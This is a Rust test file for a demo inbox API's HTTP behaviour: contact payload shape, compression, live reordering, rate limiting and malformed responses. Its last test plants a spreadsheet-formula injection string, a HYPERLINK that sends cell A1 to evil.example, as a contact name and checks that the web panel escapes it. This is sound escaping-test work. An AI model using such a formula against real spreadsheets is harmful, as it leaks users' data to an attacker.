//! The demo API reproducing the real world over HTTP: heavy contacts with every always-present
//! key, compressed responses, contacts moving to page 1, a real rate limit and 200s without a
//! contact list. Black-box: raw HTTP requests, compared with the generator's data.

mod common;

use std::collections::{HashMap, HashSet};
use std::io::Read;
use std::time::{Duration, Instant};

use common::{client_for, fetch_all, ids, start_server_with};
use inbox_tui::api::{Query, Sender, Status};
use inbox_tui::demo::{DEFAULT_TOKEN, Dataset, DemoConfig, DemoServer};
use reqwest::header::{ACCEPT_ENCODING, CONTENT_ENCODING, RETRY_AFTER};
use serde_json::{Value, json};

/// A raw client: no automatic decompression, so the tests see the bytes on the wire.
fn http() -> reqwest::Client {
    inbox_tui::api::http_client_builder()
        .no_proxy()
        .no_gzip()
        .no_brotli()
        .build()
        .expect("an HTTP client")
}

fn config(contacts: usize, seed: u64) -> DemoConfig {
    DemoConfig {
        contacts,
        seed,
        ..DemoConfig::default()
    }
}

/// `POST /inbox/users` for `page` with the documented headers, and `Accept-Encoding` if given.
async fn post_page(server: &DemoServer, page: u32, accept: Option<&str>) -> reqwest::Response {
    let body = serde_json::to_value(Query::default().page(page)).expect("serializes");
    let mut request = http()
        .post(format!("{}/inbox/users", server.url()))
        .bearer_auth(DEFAULT_TOKEN)
        .header("authtype", "Key")
        .json(&body);
    if let Some(accept) = accept {
        request = request.header(ACCEPT_ENCODING, accept);
    }
    request.send().await.expect("the server answers")
}

async fn get_segments(server: &DemoServer) -> reqwest::Response {
    http()
        .get(format!("{}/inbox/segments", server.url()))
        .bearer_auth(DEFAULT_TOKEN)
        .header("authtype", "Key")
        .send()
        .await
        .expect("the server answers")
}

fn str_at<'a>(contact: &'a Value, pointer: &str) -> &'a str {
    contact
        .pointer(pointer)
        .and_then(Value::as_str)
        .unwrap_or_else(|| panic!("{pointer} is a string in {contact}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn contacts_carry_every_always_present_key_and_weigh_about_3_kb() {
    let server = start_server_with(config(600, 11)).await;
    let mut customers = HashSet::new();
    let mut with_unread = 0;
    for page in 1..=4 {
        let body: Value = post_page(&server, page, None)
            .await
            .json()
            .await
            .expect("an envelope");
        let contacts = body["data"].as_array().expect("a page of contacts");
        assert_eq!(contacts.len(), 50);
        let bytes: usize = contacts
            .iter()
            .map(|contact| serde_json::to_string(contact).map_or(0, |text| text.len()))
            .sum();
        let average = bytes / contacts.len();
        assert!(
            (2800..=3600).contains(&average),
            "page {page}: {average} bytes a contact"
        );
        for contact in contacts {
            customers.insert(str_at(contact, "/_customer").to_owned());
            str_at(contact, "/_userWebsite");
            assert!(contact["integrations"].is_object(), "{contact}");
            for key in ["isImported", "isMigrated", "isPaid", "isUserBlocked"] {
                assert!(contact[key].is_boolean(), "{key} in {contact}");
            }
            let unread = contact["unreadMessages"].as_u64().expect("a count");
            let per_agent = contact["unreadMessage"].as_array().expect("a list");
            let mut total = 0;
            for entry in per_agent {
                assert_eq!(str_at(entry, "/userId").len(), 24);
                total += entry["count"].as_u64().expect("a count");
            }
            assert_eq!(total, unread, "unreadMessage adds up in {contact}");
            with_unread += usize::from(unread > 0);
            assert!(!str_at(contact, "/profile/device/ip").is_empty());
            str_at(contact, "/profile/userDetails/telegramUserName");
            str_at(contact, "/profile/userDetails/facebookProfileId");
            assert_eq!(str_at(contact, "/profile/userDetails/gender"), "");
            str_at(contact, "/profile/userDetails/contact/phone/number");
            str_at(contact, "/profile/userDetails/contact/phone/prefix");
            let urls = contact
                .pointer("/profile/marketing/urlsVisited")
                .and_then(Value::as_array)
                .expect("visited URLs");
            assert!((1..=4).contains(&urls.len()), "{contact}");
            for url in urls {
                let url = url.as_str().expect("a URL");
                assert!(url.starts_with("https://") && url.contains("utm_source="));
                assert!(url.len() > 300, "a long tracking token: {url}");
            }
        }
    }
    assert_eq!(customers.len(), 1, "one account: {customers:?}");
    let customer = customers.iter().next().expect("one id");
    assert!(customer.len() == 24 && customer.bytes().all(|b| b.is_ascii_hexdigit()));
    assert!(with_unread > 0, "some contacts have unread messages");
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn responses_are_compressed_when_the_client_asks() {
    let server = start_server_with(config(300, 4)).await;
    let plain = post_page(&server, 2, None).await;
    assert!(plain.headers().get(CONTENT_ENCODING).is_none());
    let plain = plain.bytes().await.expect("a body");
    let expected: Value = serde_json::from_slice(&plain).expect("JSON");

    let gzip = post_page(&server, 2, Some("gzip")).await;
    assert_eq!(gzip.status(), 200);
    assert_eq!(
        gzip.headers().get(CONTENT_ENCODING).map(|v| v.as_bytes()),
        Some(&b"gzip"[..])
    );
    let compressed = gzip.bytes().await.expect("a body");
    assert!(
        compressed.len() * 3 < plain.len(),
        "gzip shrinks a page: {} -> {}",
        plain.len(),
        compressed.len()
    );
    let mut decoded = Vec::new();
    flate2::read::GzDecoder::new(&compressed[..])
        .read_to_end(&mut decoded)
        .expect("a valid gzip stream");
    let decoded: Value = serde_json::from_slice(&decoded).expect("JSON");
    assert_eq!(decoded, expected);

    let br = post_page(&server, 2, Some("br")).await;
    assert_eq!(
        br.headers().get(CONTENT_ENCODING).map(|v| v.as_bytes()),
        Some(&b"br"[..])
    );
    let compressed = br.bytes().await.expect("a body");
    assert!(compressed.len() * 3 < plain.len());
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_truncated_compressed_body_decodes_to_cut_short_json() {
    let server = start_server_with(DemoConfig {
        truncate_rate: 1.0,
        ..config(300, 4)
    })
    .await;
    let response = post_page(&server, 1, Some("gzip")).await;
    assert_eq!(response.status(), 200);
    let compressed = response.bytes().await.expect("a body");
    let mut decoded = Vec::new();
    flate2::read::GzDecoder::new(&compressed[..])
        .read_to_end(&mut decoded)
        .expect("the compressed stream itself is complete");
    assert!(serde_json::from_slice::<Value>(&decoded).is_err());
    assert!(decoded.len() > 10_000, "about half a page survives");
    server.shutdown().await;
}

const LIVE_CONTACTS: usize = 700;
const LIVE_SEED: u64 = 21;

/// The JSON of a contact without what a move changes.
fn unmoved_part(contact: &Value) -> Value {
    let mut contact = contact.clone();
    if let Some(fields) = contact.as_object_mut() {
        for key in [
            "lastMessage",
            "updatedAt",
            "unreadMessages",
            "unreadMessage",
        ] {
            fields.remove(key);
        }
    }
    contact
}

#[tokio::test(flavor = "multi_thread")]
async fn live_moves_bring_contacts_to_page_one_without_changing_the_set_or_the_filters() {
    let server = start_server_with(DemoConfig {
        live_rate: 400.0,
        ..config(LIVE_CONTACTS, LIVE_SEED)
    })
    .await;
    let still = start_server_with(config(LIVE_CONTACTS, LIVE_SEED)).await;
    let dataset = Dataset::generate(LIVE_CONTACTS, LIVE_SEED);
    let by_id: HashMap<String, Value> = (0..dataset.len())
        .map(|index| dataset.contact_json(index))
        .map(|contact| (str_at(&contact, "/_id").to_owned(), contact))
        .collect();
    let newest_before = str_at(&dataset.contact_json(0), "/lastMessage/at").to_owned();

    // Waits for enough moves that page 1 is all moved contacts; no deadline on speed, only a
    // generous bound so a broken server fails instead of hanging.
    let started = Instant::now();
    while server.moves() < 200 {
        assert!(started.elapsed() < Duration::from_secs(120), "moves happen");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    server.set_live_rate(0.0).expect("0 is a valid rate");
    let moves = server.moves();

    let client = client_for(&server, DEFAULT_TOKEN);
    let all = fetch_all(&client, &Query::default()).await;
    let all_ids = ids(&all);
    let unique: HashSet<&String> = all_ids.iter().collect();
    assert_eq!(all_ids.len(), LIVE_CONTACTS, "no duplicates");
    assert_eq!(unique.len(), LIVE_CONTACTS);
    assert!(all_ids.iter().all(|id| by_id.contains_key(id)), "same set");

    let times: Vec<&str> = all
        .iter()
        .map(|contact| str_at(contact, "/lastMessage/at"))
        .collect();
    assert!(
        times.windows(2).all(|pair| pair[0] >= pair[1]),
        "newest first"
    );
    let moved: Vec<&Value> = all
        .iter()
        .filter(|contact| str_at(contact, "/lastMessage/at") > newest_before.as_str())
        .collect();
    assert!(moved.len() >= 50, "page 1 is all moved contacts");
    assert!(
        (moved.len() as u64) < moves,
        "some contact moved twice, listed once"
    );
    let moved_times: HashSet<&str> = moved
        .iter()
        .map(|contact| str_at(contact, "/lastMessage/at"))
        .collect();
    assert_eq!(moved_times.len(), moved.len(), "the clock never repeats");
    for (position, contact) in all.iter().enumerate() {
        let original = &by_id[str_at(contact, "/_id")];
        if position < moved.len() {
            assert_eq!(unmoved_part(contact), unmoved_part(original));
            assert_eq!(contact["lastMessage"]["by"], original["lastMessage"]["by"]);
            assert!(str_at(contact, "/updatedAt") >= str_at(contact, "/lastMessage/at"));
        } else {
            assert_eq!(contact, original, "an unmoved contact is as generated");
        }
    }

    let still_client = client_for(&still, DEFAULT_TOKEN);
    let tag = all
        .iter()
        .find_map(|contact| contact.pointer("/profile/userDetails/tags/0"))
        .and_then(Value::as_str)
        .expect("some contact has a tag")
        .to_owned();
    for query in [
        Query {
            status: vec![Status::Open, Status::Review],
            ..Query::default()
        },
        Query {
            last_message_by: vec![Sender::User],
            ..Query::default()
        },
        Query {
            tags: vec![tag],
            ..Query::default()
        },
        Query {
            search_text: "a".into(),
            user_interacted: true,
            ..Query::default()
        },
    ] {
        let live: HashSet<String> = ids(&fetch_all(&client, &query).await).into_iter().collect();
        let expected: HashSet<String> = ids(&fetch_all(&still_client, &query).await)
            .into_iter()
            .collect();
        assert!(!expected.is_empty() && expected.len() < LIVE_CONTACTS);
        assert_eq!(live, expected, "{query:?} matches the same contacts");
    }
    server.shutdown().await;
    still.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_token_bucket_refuses_a_burst_and_says_when_to_come_back() {
    let server = start_server_with(DemoConfig {
        rate_limit: Some(5.0),
        ..config(100, 1)
    })
    .await;
    let started = Instant::now();
    let mut accepted = 0u64;
    let mut retry_after = Vec::new();
    for _ in 0..20 {
        let response = get_segments(&server).await;
        match response.status().as_u16() {
            200 => accepted += 1,
            429 => {
                let seconds: u64 = response
                    .headers()
                    .get(RETRY_AFTER)
                    .and_then(|value| value.to_str().ok())
                    .and_then(|value| value.parse().ok())
                    .expect("Retry-After in whole seconds");
                retry_after.push(seconds);
                let body: Value = response.json().await.expect("an envelope");
                assert_eq!(body["success"], json!(false));
                assert_eq!(body["code"], json!(429));
            }
            other => panic!("unexpected status {other}"),
        }
    }
    // One second's worth of burst, plus whatever trickled in while the burst ran.
    let allowed = 5 + (started.elapsed().as_secs_f64() * 5.0).ceil() as u64;
    assert!(
        (5..=allowed).contains(&accepted),
        "{accepted} accepted, at most {allowed}"
    );
    assert_eq!(retry_after.len() as u64, 20 - accepted);
    assert!(retry_after.iter().all(|&seconds| seconds >= 1));
    assert_eq!(server.requests_served(), accepted);
    assert_eq!(server.requests_refused(), 20 - accepted);

    let wait = retry_after.iter().copied().max().unwrap_or(1);
    tokio::time::sleep(Duration::from_secs(wait)).await;
    assert_eq!(
        get_segments(&server).await.status(),
        200,
        "a token came back"
    );
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn broken_pages_are_200s_without_a_contact_list() {
    let server = start_server_with(DemoConfig {
        broken_data_rate: 1.0,
        ..config(100, 1)
    })
    .await;
    let mut shapes = HashSet::new();
    for _ in 0..40 {
        let response = post_page(&server, 1, None).await;
        assert_eq!(response.status(), 200);
        let body: Value = response.json().await.expect("an envelope");
        assert_eq!(body["success"], json!(true));
        assert_eq!(body["code"], json!(200));
        let shape = match body.get("data") {
            None => "missing",
            Some(Value::Null) => "null",
            Some(Value::Object(_)) => "object",
            Some(other) => panic!("data must not be a list: {other}"),
        };
        shapes.insert(shape);
    }
    assert_eq!(shapes.len(), 3, "every broken shape shows up: {shapes:?}");
    let segments: Value = get_segments(&server).await.json().await.expect("JSON");
    assert!(segments["data"].is_array(), "only contact pages break");
    server.shutdown().await;
}

/// The demo's stand-in for the web panel, which the browser's `o` opens: a page per contact,
/// outside the API (no token), with the name escaped as HTML. In hostile mode it shows the
/// attacker's names, one of which holds quotes and an ampersand: they come out as entities.
#[tokio::test(flavor = "multi_thread")]
async fn the_demo_web_panel_shows_a_contact_by_id() {
    const CONTACTS: usize = 400;
    let server = start_server_with(DemoConfig {
        contacts: CONTACTS,
        hostile: true,
        ..DemoConfig::default()
    })
    .await;
    let dataset = Dataset::generate(CONTACTS, DemoConfig::default().seed);
    let panel = |id: &str| {
        format!(
            "{}{}",
            server.url().trim_end_matches('/'),
            inbox_tui::demo::PANEL_PATH.replace("{id}", id)
        )
    };
    let raw_name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
    let escaped_name = "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Open&quot;)";
    let mut escaped_seen = 0;
    for index in 0..CONTACTS {
        let contact = dataset.contact_json(index);
        let id = contact["_id"].as_str().expect("an id");
        let page = http()
            .get(panel(id))
            .send()
            .await
            .expect("the panel answers");
        assert_eq!(page.status(), 200);
        let html = page.text().await.expect("a page");
        assert!(html.contains(id), "{html}");
        assert!(!html.contains(raw_name), "{html}");
        if html.contains(&format!("<h1>{escaped_name}</h1>")) {
            escaped_seen += 1;
        }
    }
    assert!(
        escaped_seen > 0,
        "a name with quotes and an ampersand was shown escaped"
    );
    let missing = http()
        .get(panel("000000000000000000000000"))
        .send()
        .await
        .expect("the panel answers");
    assert_eq!(missing.status(), 404);
    server.shutdown().await;
}
